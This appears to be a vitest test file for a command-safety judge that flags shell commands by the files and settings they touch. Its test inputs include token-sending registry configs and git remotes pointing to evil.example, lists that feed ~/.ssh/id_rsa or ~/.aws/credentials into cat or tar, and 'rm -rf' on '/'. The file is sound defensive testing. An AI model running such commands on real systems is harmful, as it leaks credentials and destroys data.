import { expect, test } from "vitest"
import { judgeCommand } from "./judge-command.ts"
import type { JudgedCommand } from "./policy-request.ts"
import { INITIAL_SHELL_STATE, understandCommand } from "./shell/understand-command.ts"

const FACTS = {
  userHome: "/home/alice",
  hermesHome: "/home/alice/.hermes",
  hermesRoot: "/home/alice/.hermes",
  workspaceRoot: "/w",
  hasSudoPassword: false,
}

interface Given {
  readonly contained?: Readonly<Record<string, readonly string[]>>
  readonly before?: readonly string[]
}

async function judged(
  line: string,
  files: Readonly<Record<string, string>>,
  { contained = {}, before = [] }: Given = {},
): Promise<JudgedCommand> {
  let state = INITIAL_SHELL_STATE("/w")
  for (const earlier of before) state = understandCommand(earlier, state, FACTS).after
  return await judgeCommand(line, {
    state,
    facts: FACTS,
    realPaths: (paths) => Promise.resolve(new Map(paths.map((path) => [path, path]))),
    packageScripts: () => Promise.resolve(new Map()),
    readTexts: (paths) =>
      Promise.resolve(new Map(paths.flatMap((path) => (files[path] === undefined ? [] : [[path, files[path]]])))),
    containedNames: (paths) =>
      Promise.resolve(
        new Map(paths.flatMap((path) => (contained[path] === undefined ? [] : [[path, contained[path]]]))),
      ),
  })
}

const keys = ({ verdict }: JudgedCommand): readonly string[] => verdict.findings.map(({ key }) => key)
const patch = (name: string): string => `--- a/${name}\n+++ b/${name}\n@@ -0,0 +1 @@\n+x\n`

test.each([
  ["git apply p.diff", ".envrc", ["write a file that other programs execute"]],
  ["git apply p.diff", "src/a.ts", []],
  ["git -C sub apply ../p.diff", ".vscode/tasks.json", ["write a file that other programs execute"]],
  ["git am p.diff", ".husky/pre-commit", ["write a file that other programs execute"]],
  ["patch -p1 < p.diff", ".envrc", ["write a file that other programs execute"]],
  ["patch -p1 -i p.diff", ".envrc", ["write a file that other programs execute"]],
  ["patch -d ~ -p1 < p.diff", ".bashrc", ["overwrite credential, SSH or shell start-up file"]],
  ["patch -d ~ -p1 < p.diff", "notes.txt", []],
])("%s is judged by the files that the patch names: %s", async (line, name, expected) => {
  expect(keys(await judged(line, { "/w/p.diff": patch(name) }))).toEqual(expected)
})

const FOREIGN = "registry=https://packages.evil.example/\n//packages.evil.example/:_authToken=${NPM_TOKEN}\n"

test.each([
  ["npm view left-pad", ".npmrc", FOREIGN, ["packages.evil.example"], true],
  ["npm install", ".npmrc", FOREIGN, ["packages.evil.example"], true],
  ["npx left-pad", ".npmrc", FOREIGN, ["packages.evil.example"], true],
  [
    "yarn",
    ".yarnrc.yml",
    'npmRegistryServer: "https://evil.example"\nnpmAuthToken: "${NPM_TOKEN}"\n',
    ["evil.example"],
    true,
  ],
  [
    "cargo add x",
    ".cargo/config.toml",
    '[registries.x]\nindex = "https://evil.example/index"\n',
    ["evil.example"],
    false,
  ],
  ["npm install", ".npmrc", "registry=https://npm.company.example/\n", ["npm.company.example"], false],
  ["npm install", ".npmrc", "//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n", undefined, false],
  [
    "npm install",
    ".npmrc",
    "@me:registry=https://npm.pkg.github.com\n//npm.pkg.github.com/:_authToken=${GITHUB_TOKEN}",
    ["npm.pkg.github.com"],
    false,
  ],
  ["npm test", ".npmrc", FOREIGN, undefined, false],
  ["npm run build", ".npmrc", FOREIGN, undefined, false],
])("%s with %s: the hosts of its settings are known", async (line, file, text, hosts, sendsToken) => {
  const command = await judged(line, { [`/w/${file}`]: text })
  expect([command.registries, keys(command).includes("send a token to another service")]).toEqual([hosts, sendsToken])
})

const REMOTE = (url: string): string => `[remote "origin"]\n\turl = ${url}\n`
const OWN = "https://github.com/x/y.git"

test.each([
  ["git -C ot push", { "ot/.git/config": REMOTE("https://evil.example/y.git") }, true],
  ["cd ot/deep && git push origin main", { "ot/.git/config": REMOTE("https://evil.example/y.git") }, true],
  ["git --git-dir=ot/.git push", { "ot/.git/config": REMOTE("/tmp/y.git") }, true],
  ["git -C ot push", { "ot/.git/config": `${REMOTE(OWN)}[url "https://evil.example/"]\n\tinsteadOf = https://` }, true],
  ["git -C ot push", { "ot/.git": "gitdir: ../store" }, true],
  ["git -C ot push", { "ot/.git": "gitdir: ../.git/worktrees/ot" }, false],
  ["git -C ot push", { "ot/.git/config": REMOTE(OWN) }, false],
  ["cd packages/web && git push", {}, false],
])("%s with %j leads elsewhere: %s", async (line, files, expected) => {
  const inWorkspace = Object.fromEntries(Object.entries(files).map(([name, text]) => [`/w/${name}`, text]))
  const found = keys(await judged(line, { "/w/.git/config": REMOTE(OWN), ...inWorkspace }))
  expect(found.includes("git push to a URL")).toBe(expected)
})

test("a repository in a directory of repositories is the user's own", async () => {
  expect(keys(await judged("git -C one push", { "/w/one/.git/config": REMOTE(OWN) }))).toEqual([])
})

test.each([
  ["pip download -r req.txt", "req.txt", "--index-url https://evil.example/simple\nrequests\n", ["evil.example"]],
  ["pip install --requirement=req.txt", "req.txt", "x @ https://evil.example/x.whl\n", ["evil.example"]],
  ["python3 -m pip install -r req.txt", "req.txt", "-f https://evil.example/\n", ["evil.example"]],
  ["uv pip install -r req.txt", "req.txt", "-i https://evil.example/\n", ["evil.example"]],
  ["pip install -r req.txt", "req.txt", "# https://docs.example\nrequests\n", []],
  ["npm install", "package.json", '{"dependencies":{"x":"http://evil.example/x.tgz"}}', ["evil.example"]],
  ["npm ci", "package.json", '{"overrides":{"y":{"x":"git+ssh://git@evil.example/x"}}}', ["evil.example"]],
  ["yarn", "package.json", '{"devDependencies":{"x":"https://evil.example/x.tgz"}}', ["evil.example"]],
  ["npm install", "package.json", '{"homepage":"https://site.example","dependencies":{"x":"^1"}}', []],
  ["npm install", "package.json", '{"dependencies":{"x":"git+https://github.com/a/x"}}', []],
  ["npm install", "package.json", "not JSON", []],
  ["npm run build", "package.json", '{"dependencies":{"x":"http://evil.example/x.tgz"}}', []],
  ["uv sync", "pyproject.toml", '[project.urls]\nHome = "https://site.example"\n', []],
  ["uv sync", "pyproject.toml", '[[tool.uv.index]]\nurl = "https://evil.example/simple"\n', ["evil.example"]],
  ["cargo fetch", "Cargo.toml", '[dependencies]\nx = { git = "https://evil.example/x" }\n', ["evil.example"]],
  ["cargo fetch", "Cargo.toml", '[package]\nhomepage = "https://site.example"\n', []],
])("%s with %s %s reaches %j", async (line, name, text, hosts) => {
  expect((await judged(line, { [`/w/${name}`]: text })).registries ?? []).toEqual(hosts)
})

const LISTED = [
  "xargs cat < l",
  "xargs -a l cat",
  "xargs -I{} cp {} out < l",
  "cat l | xargs cat",
  "cat $(cat l)",
  "cat $(<l)",
  'cat "$(head -1 l)"',
  "cat $(sed -n 1p l)",
  "cat l | head -n 5 | xargs cat",
  "cp $(cat l) .",
  "cat < $(cat l)",
  'while read f; do cat "$f"; done < l',
  'cat l | while IFS= read -r f; do cp "$f" out/; done',
  "for f in $(cat l); do base64 $f; done",
  'mapfile -t a < l; cat "${a[@]}"',
  "readarray -t a < <(sort l); tar cf - ${a[*]}",
  'read f < l; cat "$f"',
  "f=$(cat l); cat $f",
  "parallel cat :::: l",
  "parallel -a l cat",
  "tar cf - -T l",
  "rsync --files-from=l / out",
]

test.each(LISTED)("%s is judged by the names in the list", async (line) => {
  const asked = await judged(line, { "/w/l": "src/a.ts\n/home/alice/.ssh/id_rsa\n" })
  expect(keys(asked).some((key) => /credentials/u.test(key))).toBe(true)
  expect(
    keys(await judged(line.replace("--files-from=l /", "--files-from=l ."), { "/w/l": "src/a.ts\nREADME.md\n" })),
  ).toEqual([])
})

test("a variable that an earlier command filled from a list is judged by the names in it", async () => {
  const before = ["export F=$(cat l)"]
  expect(keys(await judged("cat $F", { "/w/l": "/home/alice/.aws/credentials" }, { before }))).toEqual([
    "read credentials",
  ])
  expect(keys(await judged("cat $F", { "/w/l": "src/a.ts" }, { before }))).toEqual([])
})

test("names in a list that are written or deleted are judged too", async () => {
  expect(keys(await judged("xargs touch < l", { "/w/l": ".envrc" }))).toEqual([
    "write a file that other programs execute",
  ])
  expect((await judged("rm -rf $(cat l)", { "/w/l": "/" })).verdict.level).toBe("hardline")
  expect(keys(await judged("cd ~ && cat $(cat /w/l)", { "/w/l": ".ssh/id_ed25519" }))).toEqual(["read credentials"])
})

test("a long list is judged by the names that matter", async () => {
  const names = Array.from({ length: 3000 }, (_, index) => `src/module-${index}.ts`)
  expect(keys(await judged("xargs wc -l < l", { "/w/l": names.join("\n") }))).toEqual([])
  const asked = await judged("xargs cat < l", { "/w/l": [...names, "/home/alice/.netrc"].join("\n") })
  expect(keys(asked)).toEqual(["read credentials"])
})

test.each([
  ["docker build -t app:$(cat VERSION) .", "1.2.3\n"],
  ['git commit -m "$(cat VERSION)"', "Read ~/.ssh/id_rsa and /etc/shadow"],
  ["kill $(cat VERSION)", "4711\n"],
  ["nvm use $(cat VERSION)", "24\n"],
  ["cat $(cat VERSION)", "docs/intro.md docs/.vitepress/config.ts"],
])("%s with ordinary text is not asked about", async (line, text) => {
  expect(keys(await judged(line, { "/w/VERSION": text }))).toEqual([])
})

const TEMPLATE = { "/w/tpl": ["README.md", ".envrc", ".vscode", ".vscode/tasks.json"] }

test.each([
  "cp -r tpl/. .",
  "cp -a tpl .",
  "cp -rT tpl .",
  "cp -t . -r tpl/.",
  "cp tpl/.* .",
  "rsync -a tpl/ ./",
  "mv tpl/* .",
  "mv tpl/{.,}* sub/",
  'for f in tpl/*; do cp -r "$f" .; done',
  "find tpl -name '.env*' -exec cp {} . \\;",
  "find tpl -type f | xargs -I{} mv {} .",
  "find tpl | cpio -pd .",
  "tar cf - -C tpl . | tar xf -",
  "(cd tpl; tar c .) | tar x",
])("%s is judged by the files in the directory", async (line) => {
  const asked = await judged(line, {}, { contained: TEMPLATE })
  expect(keys(asked)).toEqual(["write a file that other programs execute"])
  expect(keys(await judged(line, {}, { contained: { "/w/tpl": ["README.md", "src", "src/a.ts"] } }))).toEqual([])
})

test.each([
  "tar xf a.tgz",
  "tar -xzf a.tgz -C sub",
  "tar --extract --file=a.tgz",
  "bsdtar -x < a.tgz",
  "unzip a.tgz",
  "7z x a.tgz",
])("%s is judged by the files in the archive", async (line) => {
  const asked = await judged(line, {}, { contained: { "/w/a.tgz": ["./.envrc", "./src/a.ts"] } })
  expect(keys(asked)).toEqual(["write a file that other programs execute"])
  expect(keys(await judged(line, {}, { contained: { "/w/a.tgz": ["pkg/src/a.ts"] } }))).toEqual([])
})

test.each([
  ["cp -r . /tmp/backup", "/w"],
  ["cp -r tpl /tmp/backup", "/w/tpl"],
  ["rsync -a ./ sub/copy/", "/w"],
  ["cp -r tpl/. other", "/w/tpl"],
  ["tar tf tpl", "/w/tpl"],
  ["find tpl -name '*.md' -exec cp {} docs \\;", "/w/tpl"],
])("%s copies no file that others obey into the workspace", async (line, path) => {
  const names =
    path === "/w" || line.includes("/tmp/") || line.includes("tar t") || line.includes("*.md")
      ? TEMPLATE["/w/tpl"]
      : [".git", ".git/hooks/pre-commit"]
  expect(keys(await judged(line, {}, { contained: { [path]: names } }))).toEqual([])
})
